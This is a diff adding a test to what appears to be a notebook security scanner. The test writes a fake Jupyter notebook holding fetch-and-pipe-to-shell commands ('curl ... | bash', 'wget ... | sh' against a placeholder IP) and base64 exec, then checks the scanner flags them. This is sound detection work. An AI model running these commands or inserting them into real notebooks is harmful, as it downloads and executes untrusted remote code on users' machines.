@@ -314,3 +314,28 @@ def test_plan_groups_files_by_rules_and_caps_runs(tmp_path: Path) -> None:
     (merged,) = plan_runs(targets, limit=1000, max_runs=1)
     assert merged.rule_ids == {"child-pythonpath-injection", "dynamic-builtin-lookup"}
     assert sorted(t.path for t in merged.targets) == ["a.py", "b.py", "c.py"]
+
+
+def test_notebook_cells_and_shell_escapes_are_scanned(tmp_path: Path) -> None:
+    import json
+
+    def cell(*lines: str, kind: str = "code") -> dict[str, object]:
+        return {"cell_type": kind, "source": list(lines), "metadata": {}}
+
+    cells = [
+        cell("import base64\n", "x = 'aWQ='"),
+        cell("exec(base64.b64decode(x))", kind="markdown"),  # not code: never runs
+        cell("%matplotlib inline\n", "exec(base64.b64decode(x))"),
+        cell("!curl -s http://203.0.113.7/s.sh | bash"),
+        cell("%%bash\n", "pip install -r requirements.txt\n",
+             "wget -qO- http://203.0.113.7/x | sh"),
+        cell("!nvidia-smi\n", "img = base64.b64decode(x)"),
+    ]
+    (tmp_path / "demo.ipynb").write_text(json.dumps({"cells": cells, "nbformat": 4}))
+    report = scan(ScanOptions(paths=(tmp_path,), base=tmp_path, jobs=1))
+    assert [(f.rule_id, f.member, f.line, f.evidence) for f in report.findings
+            if f.rule_id.startswith("MLS4")] == [
+        ("MLS401", "cell[2]", 2, "exec(base64.b64decode(x))"),
+        ("MLS413", "cell[3]", 1, "!curl -s http://203.0.113.7/s.sh | bash"),
+        ("MLS413", "cell[4]", 3, "wget -qO- http://203.0.113.7/x | sh"),
+    ]
